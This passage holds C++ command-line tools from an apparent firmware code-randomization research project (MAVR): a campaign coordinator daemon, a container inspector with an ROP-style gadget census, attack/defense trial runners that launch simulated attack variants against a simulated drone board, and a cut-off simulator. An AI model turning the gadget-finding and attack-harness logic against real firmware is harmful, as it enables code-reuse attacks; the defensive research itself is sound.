    mavr::campaignd::WorkerOptions options;
    options.connect_attempts = 100;
    options.backoff_ms = 20;
    options.auth_token = token;
    const std::uint64_t chunks = mavr::campaignd::run_worker(endpoint,
                                                             options);
    std::fprintf(stderr, "worker %d: %llu chunks completed\n", getpid(),
                 static_cast<unsigned long long>(chunks));
    return 0;
  } catch (const mavr::support::Error& e) {
    std::fprintf(stderr, "worker %d: error: %s\n", getpid(), e.what());
    return 1;
  }
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mavr;
  campaignd::CoordinatorConfig config;
  std::uint64_t workers = 4;
  bool worker_mode = false;
  std::string connect_endpoint;
  std::string token_file;

  for (int i = 1; i < argc; ++i) {
    const auto arg_value = [&](const char* name) -> const char* {
      if (std::strcmp(argv[i], name) != 0) return nullptr;
      if (i + 1 >= argc) return nullptr;
      return argv[++i];
    };
    if (std::strcmp(argv[i], "--worker") == 0) {
      worker_mode = true;
    } else if (const char* v = arg_value("--listen")) {
      config.listen_endpoint = v;
    } else if (const char* v = arg_value("--connect")) {
      connect_endpoint = v;
    } else if (const char* v = arg_value("--checkpoint")) {
      config.checkpoint_path = v;
    } else if (const char* v = arg_value("--auth-token-file")) {
      token_file = v;
    } else if (const char* v = arg_value("--workers")) {
      const auto n = support::parse_u64_in(v, 0, 64);
      if (!n) return bad_value("--workers", v);
      workers = *n;
    } else if (const char* v = arg_value("--max-queue")) {
      const auto n = support::parse_u64_in(v, 1, 1024);
      if (!n) return bad_value("--max-queue", v);
      config.max_queue = static_cast<std::size_t>(*n);
    } else if (const char* v = arg_value("--grain")) {
      const auto n = support::parse_u64_in(v, 1, 1024);
      if (!n) return bad_value("--grain", v);
      config.assign_chunks = static_cast<std::uint32_t>(*n);
    } else {
      std::fprintf(stderr, "bad argument: %s\n", argv[i]);
      return usage();
    }
  }

  std::string token;
  if (!token_file.empty() && !read_token_file(token_file, &token)) {
    std::fprintf(stderr, "cannot read --auth-token-file %s\n",
                 token_file.c_str());
    return 1;
  }
  config.auth_token = token;

  if (worker_mode) {
    if (connect_endpoint.empty()) {
      std::fprintf(stderr, "--worker requires --connect ENDPOINT\n");
      return usage();
    }
    return worker_main(connect_endpoint, token);
  }
  if (config.listen_endpoint.empty()) return usage();

  int rc = 0;
  std::vector<pid_t> children;
  try {
    campaignd::Coordinator coordinator(config);
    coordinator.start();
    // Fork the worker pool after the endpoint is bound: over TCP with
    // port 0 the children must be told the *resolved* port. The accept
    // thread already exists at fork time; the children never touch the
    // parent's coordinator state (glibc's atfork handlers keep malloc
    // usable in the child), and they connect with retries.
    for (std::uint64_t i = 0; i < workers; ++i) {
      const pid_t pid = fork();
      if (pid < 0) {
        std::perror("fork");
        break;
      }
      if (pid == 0) _exit(worker_main(coordinator.endpoint(), token));
      children.push_back(pid);
    }
    std::signal(SIGINT, on_signal);
    std::signal(SIGTERM, on_signal);
    std::printf("mavr-campaignd: listening on %s (%zu workers%s%s%s)\n",
                coordinator.endpoint().c_str(), children.size(),
                config.checkpoint_path.empty() ? "" : ", checkpoint ",
                config.checkpoint_path.c_str(),
                token.empty() ? "" : ", token auth");
    while (!g_stop) usleep(200'000);
    std::printf("mavr-campaignd: shutting down\n");
    coordinator.stop();
  } catch (const support::Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    rc = 1;
  }

  for (pid_t pid : children) kill(pid, SIGTERM);
  for (pid_t pid : children) waitpid(pid, nullptr, 0);
  return rc;
}
