// mavr-objdump — inspect a MAVR container HEX: symbol table, pointer
// slots, gadget census, optional per-function disassembly or CFG.
//
//   mavr-objdump <container.hex> [--symbols] [--gadgets]
//                [--disasm <byte-addr-hex>] [--cfg [byte-addr-hex]]
//                [--headers]
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>

#include "analysis/cfg.hpp"
#include "attack/gadgets.hpp"
#include "defense/preprocess.hpp"
#include "toolchain/disasm.hpp"
#include "toolchain/intelhex.hpp"

namespace {

std::string read_file(const char* path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) {
    std::fprintf(stderr, "cannot open %s\n", path);
    std::exit(1);
  }
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mavr;
  if (argc < 2) {
    std::fprintf(stderr,
                 "usage: mavr-objdump <container.hex> [--symbols] "
                 "[--gadgets] [--disasm <byte-addr-hex>] "
                 "[--cfg [byte-addr-hex]] [--headers]\n");
    return 2;
  }

  const toolchain::HexImage hex = toolchain::intel_hex_decode(read_file(argv[1]));
  const defense::Container container = defense::parse_container(hex.data);
  const toolchain::SymbolBlob& blob = container.blob;

  bool any = false;
  for (int i = 2; i < argc; ++i) {
    if (std::strcmp(argv[i], "--headers") == 0) {
      any = true;
      std::printf("image: %zu bytes, text_end 0x%X, first movable 0x%X, "
                  "%zu functions, %zu pointer slots, LDI code pointers: "
                  "%s\n",
                  container.image.size(), blob.text_end, blob.first_movable,
                  blob.function_addrs.size(), blob.pointer_slots.size(),
                  blob.has_ldi_code_pointers ? "yes (UNRANDOMIZABLE)"
                                             : "no");
    } else if (std::strcmp(argv[i], "--symbols") == 0) {
      any = true;
      std::printf("%-10s %-10s\n", "address", "size");
      for (std::size_t k = 0; k < blob.function_addrs.size(); ++k) {
        std::printf("0x%-8X %u\n", blob.function_addrs[k],
                    blob.function_sizes[k]);
      }
    } else if (std::strcmp(argv[i], "--gadgets") == 0) {
      any = true;
      attack::GadgetFinder finder(container.image, blob.text_end);
      const attack::GadgetCensus& c = finder.census();
      std::printf("gadgets: %u total (%u ret-sequences, %u stk_move, "
                  "%u write_mem, %u pop-chains)\n",
                  c.total(), c.ret_gadgets, c.stk_move_gadgets,
                  c.write_mem_gadgets, c.pop_chain_gadgets);
      if (!finder.stk_moves().empty()) {
        std::printf("first stk_move entry:  0x%X\n",
                    finder.stk_moves()[0].entry_byte_addr);
      }
      if (!finder.write_mems().empty()) {
        std::printf("first write_mem entry: 0x%X (pops at 0x%X)\n",
                    finder.write_mems()[0].store_entry_byte_addr,
                    finder.write_mems()[0].pop_entry_byte_addr);
      }
    } else if (std::strcmp(argv[i], "--cfg") == 0) {
      any = true;
      // Optional hex byte address narrows the dump to one function; the
      // text is stable (offsets only change when the code does), so the
      // golden-file tests diff it directly.
      std::uint32_t want = 0;
      bool have_want = false;
      if (i + 1 < argc && argv[i + 1][0] != '-') {
        want = static_cast<std::uint32_t>(std::strtoul(argv[++i], nullptr, 16));
        have_want = true;
      }
      bool found = false;
      for (std::size_t k = 0; k < blob.function_addrs.size(); ++k) {
        const std::uint32_t start = blob.function_addrs[k];
        const std::uint32_t size = blob.function_sizes[k];
        if (have_want && (want < start || want >= start + size)) continue;
        found = true;
        const analysis::RegionCfg cfg = analysis::build_region_cfg(
            std::span(container.image).subspan(start, size), start);
        std::printf("func %zu @0x%X size=%u\n%s", k, start, size,
                    analysis::format_cfg(cfg).c_str());
      }
      if (have_want && !found) {
        std::fprintf(stderr, "0x%X is not inside a function\n", want);
        return 1;
      }
    } else if (std::strcmp(argv[i], "--disasm") == 0 && i + 1 < argc) {
      any = true;
      const std::uint32_t addr =
          static_cast<std::uint32_t>(std::strtoul(argv[++i], nullptr, 16));
      // Find the containing function via the blob.
      std::size_t idx = blob.function_addrs.size();
      for (std::size_t k = 0; k < blob.function_addrs.size(); ++k) {
        if (blob.function_addrs[k] <= addr &&
            addr < blob.function_addrs[k] + blob.function_sizes[k]) {
          idx = k;
          break;
        }
      }
      if (idx == blob.function_addrs.size()) {
        std::fprintf(stderr, "0x%X is not inside a function\n", addr);
        return 1;
      }
      const auto lines = toolchain::disassemble(
          std::span(container.image)
              .subspan(blob.function_addrs[idx], blob.function_sizes[idx]),
          blob.function_addrs[idx]);
      std::printf("%s", toolchain::format_listing(lines).c_str());
    }
  }
  if (!any) {
    std::printf("container ok: %zu-byte image, %zu functions "
                "(use --headers/--symbols/--gadgets/--disasm)\n",
                container.image.size(), blob.function_addrs.size());
  }
  return 0;
}
