// mavr-campaign — fleet-scale attack/defense trial runner.
//
//   mavr-campaign --scenario {v1,v2,v3,bruteforce-fixed,bruteforce-rerand,
//                             fault-sweep,detect-sweep}
//                 [--trials N] [--jobs N] [--seed N] [--functions N]
//                 [--fault-rate X]
//                 [--detectors LIST] [--attack {clean,v1,v2,v3}]
//                 [--randomize {on,off}]
//                 [--out FILE.{csv,json}]
//   mavr-campaign --list-scenarios
//
// Runs N independent trials of the chosen scenario across a thread pool.
// Board scenarios (v1/v2/v3) stand up a fresh board behind a freshly
// MAVR-randomized firmware per trial and deliver one stock-derived attack;
// brute-force scenarios run the paper's §V-D models; fault-sweep runs the
// self-healing reflash pipeline against an armed fault plane at
// --fault-rate; detect-sweep arms the runtime intrusion detectors
// (--detectors, a comma list of canary,shadow,sp-bounds,cfi or all/none)
// against one attack variant or a clean flight (--attack), with MAVR
// randomization off unless --randomize on. Results are bit-identical for
// any --jobs value (see DESIGN.md, campaign engine).
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <string>

#include "campaign/export.hpp"
#include "campaign/scenarios.hpp"
#include "defense/bruteforce.hpp"
#include "support/error.hpp"

namespace {

int usage() {
  std::fprintf(
      stderr,
      "usage: mavr-campaign --scenario "
      "{v1,v2,v3,bruteforce-fixed,bruteforce-rerand,fault-sweep,"
      "detect-sweep}\n"
      "                     [--trials N] [--jobs N] [--seed N]\n"
      "                     [--functions N] [--fault-rate X]\n"
      "                     [--detectors {canary,shadow,sp-bounds,cfi}*|"
      "all|none]\n"
      "                     [--attack {clean,v1,v2,v3}] "
      "[--randomize {on,off}]\n"
      "                     [--out FILE.{csv,json}]\n"
      "       mavr-campaign --list-scenarios\n");
  return 2;
}

int list_scenarios() {
  for (mavr::campaign::Scenario s : mavr::campaign::all_scenarios()) {
    std::printf("%-18s %s\n", mavr::campaign::scenario_name(s),
                mavr::campaign::scenario_description(s));
  }
  return 0;
}

bool ends_with(const std::string& s, const char* suffix) {
  const std::size_t n = std::strlen(suffix);
  return s.size() >= n && s.compare(s.size() - n, n, suffix) == 0;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mavr;
  campaign::CampaignConfig config;
  config.trials = 1000;
  config.jobs = 1;
  bool have_scenario = false;
  std::string out_path;

  for (int i = 1; i < argc; ++i) {
    const auto arg_value = [&](const char* name) -> const char* {
      if (std::strcmp(argv[i], name) != 0) return nullptr;
      if (i + 1 >= argc) return nullptr;
      return argv[++i];
    };
    if (std::strcmp(argv[i], "--list-scenarios") == 0) {
      return list_scenarios();
    }
    if (const char* v = arg_value("--scenario")) {
      const auto scenario = campaign::parse_scenario(v);
      if (!scenario) {
        std::fprintf(stderr, "unknown scenario: %s\n", v);
        return usage();
      }
      config.scenario = *scenario;
      have_scenario = true;
    } else if (const char* v = arg_value("--trials")) {
      config.trials = std::strtoull(v, nullptr, 0);
    } else if (const char* v = arg_value("--jobs")) {
      config.jobs = static_cast<unsigned>(std::strtoul(v, nullptr, 0));
    } else if (const char* v = arg_value("--seed")) {
      config.seed = std::strtoull(v, nullptr, 0);
    } else if (const char* v = arg_value("--functions")) {
      config.n_functions = static_cast<std::uint32_t>(
          std::strtoul(v, nullptr, 0));
    } else if (const char* v = arg_value("--fault-rate")) {
      config.fault_rate = std::strtod(v, nullptr);
    } else if (const char* v = arg_value("--detectors")) {
      const auto mask = detect::parse_detector_set(v);
      if (!mask) {
        std::fprintf(stderr, "unknown detector list: %s\n", v);
        return usage();
      }
      config.detectors = *mask;
    } else if (const char* v = arg_value("--attack")) {
      const auto attack = campaign::parse_detect_attack(v);
      if (!attack) {
        std::fprintf(stderr, "unknown attack: %s\n", v);
        return usage();
      }
      config.detect_attack = *attack;
    } else if (const char* v = arg_value("--randomize")) {
      if (std::strcmp(v, "on") == 0) {
        config.detect_randomize = true;
      } else if (std::strcmp(v, "off") == 0) {
        config.detect_randomize = false;
      } else {
        std::fprintf(stderr, "--randomize takes on|off\n");
        return usage();
      }
    } else if (const char* v = arg_value("--out")) {
      out_path = v;
    } else {
      std::fprintf(stderr, "bad argument: %s\n", argv[i]);
      return usage();
    }
  }
  if (!have_scenario || config.trials == 0 || config.jobs == 0) {
    return usage();
  }

  try {
    const auto t0 = std::chrono::steady_clock::now();
    const campaign::CampaignStats stats = campaign::run_campaign(config);
    const double wall_s =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
            .count();

    std::printf("scenario %s: %llu trials, %u jobs, seed %llu (%.2f s, "
                "%.0f trials/s)\n",
                campaign::scenario_name(config.scenario),
                static_cast<unsigned long long>(stats.trials), config.jobs,
                static_cast<unsigned long long>(config.seed), wall_s,
                static_cast<double>(stats.trials) / wall_s);
    std::printf("  successes:  %llu (%.2f%%)   detections: %llu (%.2f%%)\n",
                static_cast<unsigned long long>(stats.successes),
                100.0 * static_cast<double>(stats.successes) /
                    static_cast<double>(stats.trials),
                static_cast<unsigned long long>(stats.detections),
                100.0 * static_cast<double>(stats.detections) /
                    static_cast<double>(stats.trials));
    std::printf("  attempts:   mean %.2f  p50 %.0f  p90 %.0f  p99 %.0f  "
                "max %.0f\n",
                stats.mean_attempts, stats.p50_attempts, stats.p90_attempts,
                stats.p99_attempts, stats.max_attempts);
    if (config.scenario == campaign::Scenario::kDetectSweep) {
      std::printf("  attack: %s   detectors: %s   randomize: %s\n",
                  campaign::detect_attack_name(config.detect_attack),
                  detect::detector_set_name(config.detectors).c_str(),
                  config.detect_randomize ? "on" : "off");
      std::printf("  detector trips: %llu (%.2f%%)   mean time-to-detect: "
                  "%.0f cycles\n",
                  static_cast<unsigned long long>(stats.detector_trips),
                  100.0 * static_cast<double>(stats.detector_trips) /
                      static_cast<double>(stats.trials),
                  stats.mean_ttd_cycles);
    }
    if (config.scenario == campaign::Scenario::kFaultSweep) {
      std::printf("  fault rate: %g   degradations: %llu (%.2f%%)   "
                  "mean startup: %.2f ms\n",
                  config.fault_rate,
                  static_cast<unsigned long long>(stats.degradations),
                  100.0 * static_cast<double>(stats.degradations) /
                      static_cast<double>(stats.trials),
                  stats.mean_startup_ms);
    }
    if (stats.total_cycles > 0) {
      std::printf("  board time: mean %.0f cycles/trial, %llu total\n",
                  stats.mean_cycles,
                  static_cast<unsigned long long>(stats.total_cycles));
    }
    if (!campaign::scenario_uses_board(config.scenario)) {
      const double n_perms = defense::permutation_count(config.n_functions);
      const double expected =
          config.scenario == campaign::Scenario::kBruteForceFixed
              ? defense::expected_attempts_fixed(n_perms)
              : defense::expected_attempts_rerandomized(n_perms);
      std::printf("  analytic:   n=%u -> N=%.0f permutations, E[attempts] "
                  "= %.2f (measured/analytic = %.4f)\n",
                  config.n_functions, n_perms, expected,
                  stats.mean_attempts / expected);
    }

    if (!out_path.empty()) {
      const bool csv = ends_with(out_path, ".csv");
      if (!csv && !ends_with(out_path, ".json")) {
        std::fprintf(stderr, "--out must end in .csv or .json\n");
        return 2;
      }
      std::ofstream out(out_path, std::ios::binary);
      if (!out) {
        std::fprintf(stderr, "cannot open %s\n", out_path.c_str());
        return 1;
      }
      out << (csv ? campaign::to_csv(config, stats)
                  : campaign::to_json(config, stats));
      std::printf("  wrote %s\n", out_path.c_str());
    }
  } catch (const support::Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 2;
  }
  return 0;
}
