// mavr-campaign — fleet-scale attack/defense trial runner.
//
//   mavr-campaign --scenario {v1,v2,v3,bruteforce-fixed,bruteforce-rerand,
//                             fault-sweep,detect-sweep,analyze-sweep}
//                 [--trials N] [--jobs N] [--seed N] [--functions N]
//                 [--fault-rate X]
//                 [--detectors LIST] [--attack {clean,v1,v2,v3}]
//                 [--randomize {on,off}] [--generic] [--exec-tier {on,off}]
//                 [--connect ENDPOINT] [--auth-token-file FILE]
//                 [--out FILE.{csv,json}]
//   mavr-campaign --list-scenarios
//
// Runs N independent trials of the chosen scenario across a thread pool.
// Board scenarios (v1/v2/v3) stand up a fresh board behind a freshly
// MAVR-randomized firmware per trial and deliver one stock-derived attack;
// brute-force scenarios run the paper's §V-D models; fault-sweep runs the
// self-healing reflash pipeline against an armed fault plane at
// --fault-rate; detect-sweep arms the runtime intrusion detectors
// (--detectors, a comma list of canary,shadow,sp-bounds,cfi or all/none)
// against one attack variant or a clean flight (--attack), with MAVR
// randomization off unless --randomize on; analyze-sweep is the same
// harness with the static-analysis-derived per-function policy (DESIGN.md
// §15) loaded at every reflash — an in-process run also replays the
// generic baseline and prints the detection-rate delta (--generic runs
// only the baseline).
//
// With --connect the campaign is submitted to a running mavr-campaignd
// coordinator instead of running in-process; ENDPOINT is `unix:/path`,
// `tcp:host:port`, or a bare AF_UNIX path, and --auth-token-file supplies
// the coordinator's shared handshake token (required over TCP when the
// daemon has one). The stats (and any --out file) are bit-identical
// either way — for any --jobs value, any worker count, and any transport
// (see DESIGN.md §12–§13).
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>

#include <unistd.h>

#include "campaign/export.hpp"
#include "campaign/scenarios.hpp"
#include "campaignd/client.hpp"
#include "defense/bruteforce.hpp"
#include "support/error.hpp"
#include "support/parse.hpp"

namespace {

int usage() {
  std::fprintf(
      stderr,
      "usage: mavr-campaign --scenario "
      "{v1,v2,v3,bruteforce-fixed,bruteforce-rerand,fault-sweep,"
      "detect-sweep,analyze-sweep}\n"
      "                     [--trials N] [--jobs N] [--seed N]\n"
      "                     [--functions N] [--fault-rate X]\n"
      "                     [--detectors {canary,shadow,sp-bounds,cfi}*|"
      "all|none]\n"
      "                     [--attack {clean,v1,v2,v3}] "
      "[--randomize {on,off}] [--generic]\n"
      "                     [--exec-tier {on,off}]\n"
      "                     [--connect ENDPOINT] [--auth-token-file FILE]\n"
      "                     [--out FILE.{csv,json}]\n"
      "       mavr-campaign --list-scenarios\n");
  return 2;
}

int bad_value(const char* flag, const char* value) {
  std::fprintf(stderr, "invalid value for %s: '%s'\n", flag, value);
  return usage();
}

int list_scenarios() {
  for (mavr::campaign::Scenario s : mavr::campaign::all_scenarios()) {
    std::printf("%-18s %s\n", mavr::campaign::scenario_name(s),
                mavr::campaign::scenario_description(s));
  }
  return 0;
}

bool ends_with(const std::string& s, const char* suffix) {
  const std::size_t n = std::strlen(suffix);
  return s.size() >= n && s.compare(s.size() - n, n, suffix) == 0;
}

/// Everything below the header line: per-scenario detail plus the
/// optional export, shared by the in-process and --connect paths (the
/// stats are bit-identical, so the output is too).
int report(const mavr::campaign::CampaignConfig& config,
           const mavr::campaign::CampaignStats& stats,
           const std::string& out_path,
           const mavr::campaign::CampaignStats* generic_baseline = nullptr) {
  using namespace mavr;
  std::printf("  successes:  %llu (%.2f%%)   detections: %llu (%.2f%%)\n",
              static_cast<unsigned long long>(stats.successes),
              100.0 * static_cast<double>(stats.successes) /
                  static_cast<double>(stats.trials),
              static_cast<unsigned long long>(stats.detections),
              100.0 * static_cast<double>(stats.detections) /
                  static_cast<double>(stats.trials));
  std::printf("  attempts:   mean %.2f  p50 %.0f  p90 %.0f  p99 %.0f  "
              "max %.0f\n",
              stats.mean_attempts, stats.p50_attempts, stats.p90_attempts,
              stats.p99_attempts, stats.max_attempts);
  if (config.scenario == campaign::Scenario::kDetectSweep ||
      config.scenario == campaign::Scenario::kAnalyzeSweep) {
    std::printf("  attack: %s   detectors: %s   randomize: %s\n",
                campaign::detect_attack_name(config.detect_attack),
                detect::detector_set_name(config.detectors).c_str(),
                config.detect_randomize ? "on" : "off");
    std::printf("  detector trips: %llu (%.2f%%)   mean time-to-detect: "
                "%.0f cycles\n",
                static_cast<unsigned long long>(stats.detector_trips),
                100.0 * static_cast<double>(stats.detector_trips) /
                    static_cast<double>(stats.trials),
                stats.mean_ttd_cycles);
  }
  if (config.scenario == campaign::Scenario::kAnalyzeSweep) {
    std::printf("  policy: %s\n",
                config.analyze_policy ? "analysis-derived" : "generic");
    if (generic_baseline != nullptr) {
      const double derived_rate = 100.0 *
                                  static_cast<double>(stats.detections) /
                                  static_cast<double>(stats.trials);
      const double generic_rate =
          100.0 * static_cast<double>(generic_baseline->detections) /
          static_cast<double>(generic_baseline->trials);
      std::printf("  detection rate: derived %.2f%% vs generic %.2f%% "
                  "(delta %+.2f%%)\n",
                  derived_rate, generic_rate, derived_rate - generic_rate);
    }
  }
  if (config.scenario == campaign::Scenario::kFaultSweep) {
    std::printf("  fault rate: %g   degradations: %llu (%.2f%%)   "
                "mean startup: %.2f ms\n",
                config.fault_rate,
                static_cast<unsigned long long>(stats.degradations),
                100.0 * static_cast<double>(stats.degradations) /
                    static_cast<double>(stats.trials),
                stats.mean_startup_ms);
  }
  if (stats.total_cycles > 0) {
    std::printf("  board time: mean %.0f cycles/trial, %llu total\n",
                stats.mean_cycles,
                static_cast<unsigned long long>(stats.total_cycles));
  }
  if (!campaign::scenario_uses_board(config.scenario)) {
    const double n_perms = defense::permutation_count(config.n_functions);
    const double expected =
        config.scenario == campaign::Scenario::kBruteForceFixed
            ? defense::expected_attempts_fixed(n_perms)
            : defense::expected_attempts_rerandomized(n_perms);
    std::printf("  analytic:   n=%u -> N=%.0f permutations, E[attempts] "
                "= %.2f (measured/analytic = %.4f)\n",
                config.n_functions, n_perms, expected,
                stats.mean_attempts / expected);
  }

  if (!out_path.empty()) {
    const bool csv = ends_with(out_path, ".csv");
    if (!csv && !ends_with(out_path, ".json")) {
      std::fprintf(stderr, "--out must end in .csv or .json\n");
      return 2;
    }
    std::ofstream out(out_path, std::ios::binary);
    if (!out) {
      std::fprintf(stderr, "cannot open %s\n", out_path.c_str());
      return 1;
    }
    out << (csv ? campaign::to_csv(config, stats)
                : campaign::to_json(config, stats));
    std::printf("  wrote %s\n", out_path.c_str());
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mavr;
  campaign::CampaignConfig config;
  config.trials = 1000;
  config.jobs = 1;
  bool have_scenario = false;
  std::string out_path;
  std::string connect_path;
  std::string token_file;

  for (int i = 1; i < argc; ++i) {
    const auto arg_value = [&](const char* name) -> const char* {
      if (std::strcmp(argv[i], name) != 0) return nullptr;
      if (i + 1 >= argc) return nullptr;
      return argv[++i];
    };
    if (std::strcmp(argv[i], "--list-scenarios") == 0) {
      return list_scenarios();
    }
    if (const char* v = arg_value("--scenario")) {
      const auto scenario = campaign::parse_scenario(v);
      if (!scenario) {
        std::fprintf(stderr, "unknown scenario: %s\n", v);
        return usage();
      }
      config.scenario = *scenario;
      have_scenario = true;
    } else if (const char* v = arg_value("--trials")) {
      const auto trials = support::parse_u64_in(v, 1, UINT64_MAX);
      if (!trials) return bad_value("--trials", v);
      config.trials = *trials;
    } else if (const char* v = arg_value("--jobs")) {
      const auto jobs = support::parse_u64_in(v, 1, 256);
      if (!jobs) return bad_value("--jobs", v);
      config.jobs = static_cast<unsigned>(*jobs);
    } else if (const char* v = arg_value("--seed")) {
      const auto seed = support::parse_u64(v);
      if (!seed) return bad_value("--seed", v);
      config.seed = *seed;
    } else if (const char* v = arg_value("--functions")) {
      const auto functions = support::parse_u64_in(v, 1, UINT32_MAX);
      if (!functions) return bad_value("--functions", v);
      config.n_functions = static_cast<std::uint32_t>(*functions);
    } else if (const char* v = arg_value("--fault-rate")) {
      const auto rate = support::parse_f64(v);
      if (!rate || *rate < 0.0 || *rate > 1.0) {
        return bad_value("--fault-rate", v);
      }
      config.fault_rate = *rate;
    } else if (const char* v = arg_value("--detectors")) {
      const auto mask = detect::parse_detector_set(v);
      if (!mask) {
        std::fprintf(stderr, "unknown detector list: %s\n", v);
        return usage();
      }
      config.detectors = *mask;
    } else if (const char* v = arg_value("--attack")) {
      const auto attack = campaign::parse_detect_attack(v);
      if (!attack) {
        std::fprintf(stderr, "unknown attack: %s\n", v);
        return usage();
      }
      config.detect_attack = *attack;
    } else if (const char* v = arg_value("--randomize")) {
      if (std::strcmp(v, "on") == 0) {
        config.detect_randomize = true;
      } else if (std::strcmp(v, "off") == 0) {
        config.detect_randomize = false;
      } else {
        std::fprintf(stderr, "--randomize takes on|off\n");
        return usage();
      }
    } else if (const char* v = arg_value("--exec-tier")) {
      if (std::strcmp(v, "on") == 0) {
        config.exec_tier = true;
      } else if (std::strcmp(v, "off") == 0) {
        config.exec_tier = false;
      } else {
        std::fprintf(stderr, "--exec-tier takes on|off\n");
        return usage();
      }
    } else if (std::strcmp(argv[i], "--generic") == 0) {
      config.analyze_policy = false;
    } else if (const char* v = arg_value("--connect")) {
      connect_path = v;
    } else if (const char* v = arg_value("--auth-token-file")) {
      token_file = v;
    } else if (const char* v = arg_value("--out")) {
      out_path = v;
    } else {
      std::fprintf(stderr, "bad argument: %s\n", argv[i]);
      return usage();
    }
  }
  if (!have_scenario) return usage();

  std::string auth_token;
  if (!token_file.empty()) {
    std::ifstream token_in(token_file, std::ios::binary);
    if (!token_in) {
      std::fprintf(stderr, "cannot read --auth-token-file %s\n",
                   token_file.c_str());
      return 1;
    }
    std::getline(token_in, auth_token);
    while (!auth_token.empty() && (auth_token.back() == '\r' ||
                                   auth_token.back() == '\n')) {
      auth_token.pop_back();
    }
  }

  try {
    const auto t0 = std::chrono::steady_clock::now();
    campaign::CampaignStats stats;
    campaign::CampaignStats generic_stats;
    bool have_generic = false;
    if (connect_path.empty()) {
      if (config.scenario == campaign::Scenario::kAnalyzeSweep) {
        // One fixture (and one static-analysis pass) serves both runs;
        // the baseline replays the identical trial stream with the
        // generic detectors alone, so the delta isolates the policy.
        const campaign::SimFixture fixture = campaign::make_sim_fixture(
            firmware::testapp(/*vulnerable=*/true));
        stats = campaign::run_campaign(config, fixture);
        if (config.analyze_policy) {
          campaign::CampaignConfig generic = config;
          generic.analyze_policy = false;
          generic_stats = campaign::run_campaign(generic, fixture);
          have_generic = true;
        }
      } else {
        stats = campaign::run_campaign(config);
      }
    } else {
      // Resilient client (DESIGN.md §14): retries ride out a coordinator
      // restart or dropped frames instead of dying on first ECONNRESET.
      // Submit retry is safe (idempotent at the coordinator); the wait
      // budget is consecutive, reset by every successful poll; progress
      // resumes from the coordinator's incremental aggregate.
      campaignd::ClientOptions client;
      client.auth_token = auth_token;
      client.max_retries = 10;
      client.retry_seed = static_cast<std::uint64_t>(::getpid());
      const campaignd::SubmitOutcome submit =
          campaignd::submit_campaign(connect_path, config, client);
      if (!submit.ok) {
        std::fprintf(stderr, "submit failed: %s\n", submit.error.c_str());
        return 1;
      }
      std::printf("submitted campaign %llu to %s\n",
                  static_cast<unsigned long long>(submit.campaign_id),
                  connect_path.c_str());
      const campaignd::PollOutcome done = campaignd::wait_campaign(
          connect_path, submit.campaign_id, client, /*interval_ms=*/50,
          /*timeout_ms=*/-1);
      if (!done.ok) {
        std::fprintf(stderr, "wait failed: %s\n", done.error.c_str());
        return 1;
      }
      stats = done.status.stats;
    }
    const double wall_s =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
            .count();

    if (connect_path.empty()) {
      std::printf("scenario %s: %llu trials, %u jobs, seed %llu (%.2f s, "
                  "%.0f trials/s)\n",
                  campaign::scenario_name(config.scenario),
                  static_cast<unsigned long long>(stats.trials), config.jobs,
                  static_cast<unsigned long long>(config.seed), wall_s,
                  static_cast<double>(stats.trials) / wall_s);
    } else {
      std::printf("scenario %s: %llu trials via %s, seed %llu (%.2f s, "
                  "%.0f trials/s)\n",
                  campaign::scenario_name(config.scenario),
                  static_cast<unsigned long long>(stats.trials),
                  connect_path.c_str(),
                  static_cast<unsigned long long>(config.seed), wall_s,
                  static_cast<double>(stats.trials) / wall_s);
    }
    return report(config, stats, out_path,
                  have_generic ? &generic_stats : nullptr);
  } catch (const support::Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 2;
  }
}
