// mavr-sitl — software-in-the-loop run of a container HEX on the simulated
// APM board, optionally behind the MAVR platform. Prints a per-second
// flight log like a ground station would. (Attack demonstrations need
// symbol names, which the flashable container deliberately strips — see
// examples/stealthy_attack.cpp for the library-level attack scenarios.)
//
//   mavr-sitl <container.hex> [--seconds N] [--mavr]
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>

#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "sim/board.hpp"
#include "sim/flight.hpp"
#include "sim/ground.hpp"
#include "toolchain/intelhex.hpp"

int main(int argc, char** argv) {
  using namespace mavr;
  if (argc < 2) {
    std::fprintf(stderr,
                 "usage: mavr-sitl <container.hex> [--seconds N] [--mavr]\n");
    return 2;
  }
  int seconds = 6;
  bool use_mavr = false;
  for (int i = 2; i < argc; ++i) {
    if (std::strcmp(argv[i], "--seconds") == 0 && i + 1 < argc) {
      seconds = std::atoi(argv[++i]);
    } else if (std::strcmp(argv[i], "--mavr") == 0) {
      use_mavr = true;
    }
  }

  std::ifstream in(argv[1], std::ios::binary);
  if (!in) {
    std::fprintf(stderr, "cannot open %s\n", argv[1]);
    return 1;
  }
  std::ostringstream ss;
  ss << in.rdbuf();
  const toolchain::HexImage hex = toolchain::intel_hex_decode(ss.str());
  const defense::Container container = defense::parse_container(hex.data);

  sim::Board board;
  defense::ExternalFlash flash;
  std::unique_ptr<defense::MasterProcessor> master;
  if (use_mavr) {
    defense::MasterConfig cfg;
    cfg.watchdog_timeout_cycles = 400'000;
    master = std::make_unique<defense::MasterProcessor>(flash, board, cfg);
    master->host_upload_hex(ss.str());
    master->boot();
    std::printf("[mavr] %zu blocks randomized, programmed in %.0f ms\n",
                master->symbol_count(), master->last_startup()->total_ms);
  } else {
    board.flash_image(container.image);
  }

  sim::FlightModel flight(board);
  sim::GroundStation gcs(board);

  std::printf("%-5s %-10s %-10s %-9s %-9s %-7s %s\n", "t(s)", "roll(deg)",
              "xgyro", "packets", "feeds", "link", "state");
